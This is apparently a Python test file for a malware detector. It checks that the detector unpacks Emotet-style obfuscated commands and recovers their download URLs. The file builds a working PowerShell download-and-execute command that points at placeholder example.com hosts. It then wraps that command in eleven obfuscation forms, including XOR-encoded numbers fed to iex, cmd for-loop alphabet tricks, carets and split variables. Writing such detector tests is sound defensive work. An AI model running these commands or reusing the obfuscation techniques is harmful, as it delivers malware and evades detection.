"""Commands packed as Emotet's documents of 2018 packed them. Every text is packed here by the rules of cmd and PowerShell."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mimawari.detectors.marks.downloader import commands, emotet_grammar
from mimawari.detectors.marks.packed_text import carried

SITES = "@".join(f"http://s{at}.example.com/{end}" for at, end in enumerate(("xK3", "yV", "z1", "q8", "pW")))
COMMAND = (
    f"powershell $b=new-object Net.WebClient;$c='{SITES}'.Split('@');$d='474';$e=$env:public+'\\'+$d+'.exe';"
    "foreach($f in $c){try{$b.DownloadFile($f,$e);Invoke-Item $e;break;}catch{}}"
)


def numbers(key: int = 0, base: str = "d", between: str = ",") -> str:
    return between.join(format(ord(letter) ^ key, base) for letter in COMMAND)


def picked() -> str:
    """``set`` of an alphabet and a ``for`` over the places of its letters, as in 2018-12."""
    alphabet = "".join(sorted(set(COMMAND)))
    places = ",".join(str(alphabet.index(letter)) for letter in COMMAND)
    end = len(alphabet) + 7
    return (
        f'c:\\ab\\..\\..\\..\\windows\\system32\\cmd.exe /V:O/C"set qZ={alphabet}&&for %x in ({places},{end})do set k=!k!!qZ:~%x,1!'
        f'&&if %x geq {end} call %k:~6%"'
    )


def backwards() -> str:
    """The command turned round, and a counting ``for`` that reads it from its end."""
    return (
        f'cmd /V:/C"set 7Lk={COMMAND[::-1]}&&for /L %k in ({len(COMMAND) - 1},-1,0)do set q=!q!!7Lk:~%k,1!&&if %k==0 call %q:~6%"'
    )


PACKED = {
    "numbers with a key": f"powershell \"( '{numbers(23)}'.Split(',')|%{{[char]($_ -bxor 23)}})-join''|iex\"",
    "numbers with a hexadecimal key": f"powershell \"('{numbers(0x4F)}'.Split(',')|%{{[char]($_ -bxor '0x4f')}})-join''|iex\"",
    "numbers": f"powershell \"( '{numbers()}'.Split(',')|%{{[char][int]$_}})-join''|iex\"",
    "numbers cut at letters": f"powershell \"('{numbers(between='zK')}' -split 'zK'|%{{[char][int]$_}})-join''|iex\"",
    "hexadecimal numbers": (
        f"powershell \"('{numbers(base='x', between='~')}'.Split('~')|%{{[char]([convert]::toint16(([string]$_),16))}})|iex\""
    ),
    "binary numbers": (
        f"powershell \"('{numbers(base='07b', between=',')}'.Split(',')|%{{[char]([convert]::toint16(($_.tostring()),2))}})|iex\""
    ),
    "an alphabet and places": picked(),
    "the same under carets": "^".join(picked()),
    "a counting for": backwards(),
    "stand-ins of quotes": (
        "powershell ('" + COMMAND[11:].replace("'", "Q1Q").replace("$", "7pZ") + "').Replace('7pZ',[string][char]36)"
        ".Replace(([char]81+[char]49+[char]81),[string][char]39)|iex"
    ),
    "variables of pieces": f'cmd /V /C "set a=pow&&set b=ershell&&set c={COMMAND[10:].replace("&", "")}&&call %a%%b%%c%"',
}


@pytest.mark.parametrize("name", PACKED)
def test_the_command_is_read(name: str) -> None:
    found = [grammar for text in commands([PACKED[name]]) if (grammar := emotet_grammar(text))]
    assert found
    assert [one.rpartition("/")[2] for one in found[0].addresses] == ["xK3", "yV", "z1", "q8", "pW"]


@pytest.mark.parametrize(
    "text",
    [
        "Chr: " + ",".join(str(at % 200) for at in range(400)),
        "[char] " + ",".join(["3"] * 30),
        "set a=b&&for /L %k in (1,0,9) do echo %k",
        "set abcdefghijklmnopqrstuvwxyz=abcdefghijklmnopqrstuvwxyz&&for /L %k in (99999,-1,-99999) do !a:~%k,1!",
    ],
)
def test_rows_of_numbers_that_say_nothing(text: str) -> None:
    assert [one for one in carried(text) if one != text and emotet_grammar(one)] == []


@pytest.mark.parametrize(
    "unit",
    ["1,", "[char]1,", "toint16(a,16) ab ", "for /l %a in (9,-1,0) set a=bbbbbbbbbbbbbbbbbbbbbbbbb&", "set a=%a%%a%&", "ptth"],
)
def test_a_long_text_costs_little(unit: str) -> None:
    text = ("[char] set " + unit * (64 << 10))[: 64 << 10]
    begun = time.process_time()
    assert sum(len(one) for one in commands([text])) < 64 << 20
    assert time.process_time() - begun < 6


@settings(max_examples=150, derandomize=True, deadline=None)
@given(st.sampled_from(sorted(PACKED)), st.integers(0, 3000), st.text(max_size=6))
def test_damaged_texts_are_read_without_a_crash(name: str, at: int, spoil: str) -> None:
    text = PACKED[name]
    for command in commands([text[:at] + spoil + text[at + 3 :]]):
        emotet_grammar(command)
